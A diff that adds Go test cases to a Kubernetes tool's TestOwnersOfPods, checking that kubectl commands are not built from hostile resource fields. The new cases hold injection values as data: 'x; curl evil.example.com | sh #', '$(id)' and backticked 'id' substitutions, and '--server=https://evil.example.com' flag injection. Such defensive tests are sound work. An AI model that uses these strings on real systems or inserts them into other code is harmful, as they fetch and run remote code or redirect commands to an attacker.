@@ -38,6 +38,11 @@ func TestOwnersOfPods(t *testing.T) {
 		"Job with its own selector": {"batch/v1", "Job", "train", nil, "Job train", "kubectl patch job train -n team-a -p " + change + replaced},
 		"of another API":            {"ray.io/v1", "RayCluster", "train", nil, "RayCluster train", "kubectl edit RayCluster.v1.ray.io train -n team-a"},
 		"of another API, as here":   {"example.com/v1", "Job", "train", nil, "Job train", "kubectl edit Job.v1.example.com train -n team-a"},
+		"no kind":                   {"v1", "x; curl evil.example.com | sh #", "train", nil, "x; curl evil.example.com | sh # train", ""},
+		"no group":                  {"$(id)/v1", "Widget", "train", nil, "Widget train", ""},
+		"no version":                {"example.com/`id`", "Widget", "train", nil, "Widget train", ""},
+		"a flag":                    {"apps/v1", "StatefulSet", "--server=https://evil.example.com", nil, "StatefulSet --server=https://evil.example.com", ""},
+		"a flag of a Deployment":    {"apps/v1", "ReplicaSet", "--server=evil-7d4", map[string]string{"pod-template-hash": "7d4"}, "ReplicaSet --server=evil-7d4", ""},
 		"of the core API":           {"v1", "Widget", "train", nil, "Widget train", "kubectl edit Widget.v1 train -n team-a"},
 	} {
 		t.Run(name, func(t *testing.T) {
